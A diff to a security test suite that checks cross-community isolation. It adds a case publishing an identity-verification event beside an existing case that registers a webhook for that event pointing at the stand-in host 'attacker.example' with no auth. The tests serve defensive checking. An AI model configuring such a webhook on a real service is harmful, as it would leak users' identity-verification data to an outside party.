@@ -101,6 +101,7 @@ describe('security: a community named like another community id reaches nothing 
 
   const webhooks: [string, string, string, unknown?][] = [
     ['fetches the webhooks', 'POST', '/webhooks/fetch', {}],
+    ['publishes an event', 'PUT', '/event/E_IDV_DOCUMENT_VALIDATE', { dvcID: 'kyc', docType: 'dl', status: 'verified' }],
     ['creates a webhook', 'PUT', '/webhook', { name: 'x', eventNames: ['E_IDV_DOCUMENT_VALIDATE'], api: { type: 'POST', url: 'https://attacker.example/', authType: 'none' }, successCodes: [200] }],
   ]; // prettier-ignore
   for (const [what, method, path, body] of webhooks) {
